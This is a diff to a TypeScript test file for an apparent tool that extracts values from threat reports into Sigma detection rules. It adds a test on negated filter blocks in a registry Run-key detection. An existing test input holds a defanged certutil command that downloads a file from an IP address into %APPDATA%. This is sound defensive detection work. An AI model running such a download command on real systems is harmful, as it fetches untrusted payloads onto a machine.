@@ -1,4 +1,5 @@
 import type { ExtractionResult } from '@huntforge/contracts';
+import { detectionValues } from './domain-ports';
 import { fidelityCheck } from './sigma-stages';
 import type { PipelineArticle } from './ports';
 
@@ -37,5 +38,21 @@ describe('fidelityCheck on defanged articles', () => {
   it('accepts the refanged form of a defanged value and the single-% form of a batch variable', () => {
     const text = 'certutil -urlcache -f hxxp://203.0.113[.]5/a.txt %%APPDATA%%\\a.txt';
     expect(fidelityCheck(['http://', '%APPDATA%\\a.txt', '203.0.113.5'], article(text), noObservables)).toEqual({ ok: true, unsupported_values: [] });
+  });
+});
+
+describe('detection values the fidelity check reads', () => {
+  it('leaves out blocks the condition only negates: a filter states no observation', () => {
+    const yaml = [
+      'detection:',
+      '  selection:',
+      "    TargetObject|endswith: '\\Run\\QuillSetup'",
+      '  filter_genuine:',
+      "    Details|contains: '\\QuillSetup.exe'",
+      '  condition: selection and not filter_genuine',
+    ].join('\n');
+    expect(detectionValues(yaml)).toEqual(['\\Run\\QuillSetup']);
+    // A block the condition also uses positively is read.
+    expect(detectionValues(yaml.replace('selection and not filter_genuine', 'selection or filter_genuine'))).toEqual(['\\Run\\QuillSetup', '\\QuillSetup.exe']);
   });
 });
